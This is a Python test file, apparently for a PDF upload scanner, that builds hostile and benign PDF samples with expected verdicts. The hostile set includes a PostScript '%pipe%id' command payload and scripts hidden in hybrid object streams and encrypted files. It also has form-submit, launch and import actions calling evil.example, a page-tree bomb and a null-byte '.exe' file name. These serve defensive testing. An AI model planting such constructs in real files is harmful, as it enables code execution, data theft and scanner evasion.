"""A second round of PDFs, written with the verdict first: hostile ideas about each list, and habits of producers."""

import struct
import zlib

from app.domain.uploads import NoticeCode
from app.integrations.inspection import RefusalCode
from tests.integrations import file_samples as make
from tests.integrations.corpus.pdf_bytes import (
    annotation,
    attached,
    document,
    field,
    link,
    objects_in_stream,
    opening,
    restricted,
    script,
    stream,
    updated,
)
from tests.integrations.corpus.pdf_honest import Honest
from tests.integrations.corpus.pdf_hostile import ACTIVE, REMOTE, Hostile
from tests.integrations.office_corpus.embedded_files import pptx, xlsx

_ALERT = script(b"x\\(\\)")
_EVIL = b"<</S/URI/URI(http://evil.example)>>"
_COMPLEX, _DAMAGED = RefusalCode.TOO_COMPLEX, RefusalCode.DAMAGED
_ATTACHED = (NoticeCode.ATTACHED_FILES,)


def hybrid(hidden: bytes) -> bytes:
    """A file with a table for old readers, which leaves out an object that newer ones find in an object stream."""
    plain = document(catalog=b"/OpenAction 9 0 R")
    body, _, tail = plain.partition(b"xref\n")
    packed = zlib.compress(b"9 0 " + hidden)
    stream_at = len(body)
    body += b"7 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream\nendobj\n" % (
        len(packed),
        packed,
    )
    table_at = len(body)
    rows = struct.pack(">BIH", 1, stream_at, 0) + struct.pack(">BIH", 1, table_at, 0) + struct.pack(">BIH", 2, 7, 0)
    body += (
        b"8 0 obj\n<</Type/XRef/Size 10/W[1 4 2]/Index[7 3]/Root 1 0 R/Length %d>>stream\n%s\nendstream\nendobj\n"
        % (len(rows), rows)
    )
    start = len(body)
    table = tail.partition(b"startxref")[0].replace(b"/Root 1 0 R", b"/Root 1 0 R/XRefStm %d" % table_at)
    table = table.replace(b"/Size 4", b"/Size 10")
    return body + b"xref\n" + table + b"startxref\n%d\n%%%%EOF\n" % start


def _deep_tree(levels: int) -> bytes:
    """Pages that name each next level twice: two to the power of the levels."""
    nodes = [b"<</Type/Pages/Parent 2 0 R/Kids[%d 0 R %d 0 R]/Count 2>>" % (n + 1, n + 1) for n in range(2, levels + 2)]
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    return make.plain_pdf([b"<</Type/Catalog/Pages 2 0 R>>", *nodes, page])


HOSTILE: Hostile = {
    "a program for a printer": (
        document(
            stream(b"(%pipe%id) (r) file", b"/Type/XObject/Subtype/PS"), page=b"/Resources<</XObject<</X 4 0 R>>>>"
        ),
        ACTIVE,
    ),
    "a program for a printer, in the way of forms": (
        document(stream(b"(a) run", b"/Type/XObject/Subtype/Form/Subtype2/PS/PS 5 0 R"), stream(b"(a) run")),
        ACTIVE,
    ),
    "a script in the hidden part of a hybrid file": (hybrid(_ALERT), ACTIVE),
    "an address in the hidden part of a hybrid file": (hybrid(_EVIL), REMOTE),
    "a script of a catalog that is not the root": (document(b"<</Type/Catalog/OpenAction %s>>" % _ALERT), ACTIVE),
    "a script on the loading of a model": (
        document(stream(b"U3D", b"/Type/3D/Subtype/U3D/OnInstantiate 5 0 R"), stream(b"x()")),
        ACTIVE,
    ),
    "a projection of a model": (annotation(b"/Subtype/Projection/3DD 4 0 R", stream(b"", b"/Type/3D")), ACTIVE),
    "slides that play another presentation": (
        document(
            b"<</Type/SlideShow/Subtype/Embedded/Resources<</Names[(a) 5 0 R]>>/StartResource(a)>>",
            stream(b"FWS"),
            catalog=b"/Names<</AlternatePresentations<</Names[(a) 4 0 R]>>>>",
        ),
        ACTIVE,
    ),
    "a portfolio with a player of its own": (
        document(stream(b"FWS"), catalog=b"/Collection<</View/C/Navigator<</SWF(a)/Resources<</Names[(a) 4 0 R]>>>>>>"),
        ACTIVE,
    ),
    "a link that launches a file of the web": (
        link(b"<</S/Launch/F<</FS/URL/F(http://evil.example/a.pdf)>>>>"),
        ACTIVE,
    ),
    "a link to an attached file behind an address": (
        link(b"<</S/URI/URI(http://a.example)/Next<</S/GoToE/T<</R/C/N(x)>>>>>>"),
        ACTIVE,
    ),
    "a thread of another file on opening": (opening(b"<</S/Thread/F(//evil.example/x.pdf)/D 0>>"), ACTIVE),
    "an address when a page is shown in part": (annotation(b"/Subtype/Link/AA<</PV %s>>" % _EVIL), REMOTE),
    "an address when a page is left": (document(page=b"/AA<</C %s>>" % _EVIL), REMOTE),
    "a form that is sent when it is entered": (
        field(b"/Fo<</S/SubmitForm/F<</FS/URL/F(http://evil.example)>>>>"),
        ACTIVE,
    ),
    "a form that is sent behind a reset": (link(b"<</S/ResetForm/Next<</S/SubmitForm/F(http://e)>>>>"), ACTIVE),
    "data that is read on opening": (opening(b"<</S/ImportData/F(//evil.example/x.fdf)>>"), ACTIVE),
    "a picture with another in a file": (
        document(b"<</Subtype/Image/Alternates[<</Image 5 0 R>>]/Length 0>>stream\n\nendstream", stream(b"", b"/F(x)")),
        REMOTE,
    ),
    "a font in a file of a share": (
        document(b"<</Type/FontDescriptor/FontFile2 5 0 R>>", stream(b"", b"/F(//evil.example/a.ttf)")),
        REMOTE,
    ),
    "a rich text of a form in code": (field(b"/#4B<</#53/#4aavaScript/JS(x\\(\\))>>"), ACTIVE),
    "XFA of a field": (field(b"", extra=b"/XFA(x)"), ACTIVE),
    "events of a bookmark": (document(b"<</Title(a)/AA<</D %s>>>>" % _ALERT, catalog=b"/Outlines 4 0 R"), ACTIVE),
    "a script in a restricted file": (restricted(opening(_ALERT)), ACTIVE),
    "a script in a restricted file of old": (restricted(opening(_ALERT), revision=3), ACTIVE),
    "a script in packed objects of a restricted file": (restricted(objects_in_stream(opening(_ALERT))), ACTIVE),
    "two to the thirtieth pages": (_deep_tree(30), _DAMAGED),
    "attached: a sheet with macros": (attached(xlsx({"xl/vbaProject.bin": b"x"}), b"/F(a.xlsx)"), ACTIVE),
    "attached: a sheet that calls itself one with macros": (attached(xlsx(), b"/F(a.xlsm)"), ACTIVE),
    "attached: a sheet that asks the web": (attached(xlsx(formula="WEBSERVICE(A1)"), b"/F(a.xlsx)"), ACTIVE),
    "attached: a sheet linked to a share": (
        attached(
            xlsx({"xl/externalLinks/_rels/e.rels": make.relationships(("externalLinkPath", "//evil/x", True))}),
            b"/F(a.xlsx)",
        ),
        ACTIVE,
    ),
    "attached: slides that start a program": (
        attached(pptx({"ppt/slides/s.xml": '<a><hlinkClick action="ppaction://program"/></a>'}), b"/F(a.pptx)"),
        ACTIVE,
    ),
    "attached: an old sheet": (attached(make.compound({"Workbook": bytes(5000)}), b"/F(a.xls)"), ACTIVE),
    "attached: a letter": (attached(b"MIME-Version: 1.0\nX: y\n\n<html>", b"/F(a.eml)"), ACTIVE),
    "attached: a shortcut to the web": (attached(b"[InternetShortcut]\nURL=http://x\n", b"/F(a.url)"), ACTIVE),
    "attached: settings of Windows": (
        attached(b"<?xml version='1.0'?><PCSettings/>", b"/F(a.settingcontent-ms)"),
        ACTIVE,
    ),
    "attached: a sheet in text for a program": (attached(b"ID;P\n", b"/F(a.slk)"), ACTIVE),
    "attached: text without an end of its name": (attached(b"x", b"/F(a.txt\\000.exe)"), ACTIVE),
}

HONEST: Honest = {
    "Acrobat, signed for long": (
        document(b"<</Type/DSS/Certs[5 0 R]/VRI<<>>>>", stream(b"x"), catalog=b"/DSS 4 0 R"),
        (),
    ),
    "a portfolio with columns": (
        document(
            b"<</Type/Filespec/F(a.txt)/EF<</F 5 0 R>>>>",
            stream(b"x", b"/Type/EmbeddedFile"),
            catalog=b"/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>"
            b"/Collection<</View/D/Schema<</S<</Subtype/S/N(S)>>>>>>",
        ),
        _ATTACHED,
    ),
    "a font whose resource is called PS": (
        document(page=b"/Resources<</Font<</PS<</Type/Font/Subtype/Type1>>>>>>"),
        (),
    ),
    "an attached sheet": (attached(xlsx(), b"/F(a.xlsx)"), _ATTACHED),
    "attached slides": (attached(pptx(), b"/F(a.pptx)/UF(a.pptx)"), _ATTACHED),
    "an invoice with its data": (
        attached(
            b"<?xml version='1.0'?><rsm:Invoice xmlns:rsm='x'/>",
            b"/F(factur-x.xml)/UF(factur-x.xml)",
            specification=b"/AFRelationship/Data/Desc(Invoice)",
        ),
        _ATTACHED,
    ),
    "Chrome, with its tags": (
        document(
            b"<</Type/StructTreeRoot/K 5 0 R/ParentTree<</Nums[0[5 0 R]]>>>>",
            b"<</Type/StructElem/S/Document/P 4 0 R/K[<</Type/MCR/MCID 0/Pg 3 0 R>>]>>",
            b"<</Creator(Chromium)/Producer(Skia/PDF m120)>>",
            catalog=b"/MarkInfo<</Marked true>>/StructTreeRoot 4 0 R/ViewerPreferences<</DisplayDocTitle true>>",
        ),
        (),
    ),
    "LibreOffice, with its first view": (document(catalog=b"/OpenAction[3 0 R/XYZ null null 0]/Lang(en-GB)"), ()),
    "LaTeX, with its links": (
        document(
            b"<</Title(A)/A<</S/GoTo/D(section.1)>>/Parent 5 0 R>>",
            b"<</First 4 0 R/Last 4 0 R/Count 1>>",
            catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>/PageMode/UseOutlines/Outlines 5 0 R/URI<</Base(http://a.org)>>",
        ),
        (),
    ),
    "InDesign, with its layers": (
        document(
            b"<</Type/OCG/Name(Layer)>>",
            catalog=b"/OCProperties<</OCGs[4 0 R]/D<</Order[4 0 R]>>>>",
            page=b"/PieceInfo<</InDesign<</LastModified(D:2026)/Private<<>>>>>>",
        ),
        (),
    ),
    "a scan with its text": (
        document(
            stream(b"\0" * 40, b"/Type/XObject/Subtype/Image/Width 8/Height 40/BitsPerComponent 1"),
            stream(b"BT 3 Tr (Policy) Tj ET"),
            page=b"/Contents 5 0 R",
        ),
        (),
    ),
    "Acrobat, signed": (
        field(
            b"",
            extra=b"/V<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/Contents<00>"
            b"/ByteRange[0 1 2 3]/Reference[<</TransformMethod/DocMDP/TransformParams<</P 2>>>>]>>",
        ),
        (),
    ),
    "Word, with its profile": (
        document(
            stream(b"<x:xmpmeta/>", b"/Type/Metadata/Subtype/XML"), catalog=b"/Metadata 4 0 R/OutputIntents[<<>>]"
        ),
        (),
    ),
    "slides with transitions": (document(page=b"/Trans<</S/Fade/D 1>>/Dur 9"), ()),
    "a hybrid file": (hybrid(b"<</S/GoTo/D[3 0 R/Fit]>>"), ()),
    "a script that an update has taken out": (
        updated(opening(_ALERT), 1, b"<</Type/Catalog/Pages 2 0 R>>"),
        (),
    ),
    "an action that an update has replaced": (updated(opening(b"4 0 R", _ALERT), 4, b"<</S/GoTo/D(a)>>"), ()),
    "an update that turns a page": (
        updated(document(), 3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Rotate 90>>"),
        (),
    ),
    "text about scripts and launching": (document(stream(b"BT (/JavaScript /Launch /XFA) Tj ET")), ()),
    "articles": (
        document(b"<</F 5 0 R/I<</Title(/AA)>>>>", b"<</T 4 0 R/N 5 0 R/V 5 0 R/P 3 0 R>>", catalog=b"/Threads[4 0 R]"),
        (),
    ),
    "a link that opens the print dialogue": (link(b"<</S/Named/N/Print>>"), ()),
}
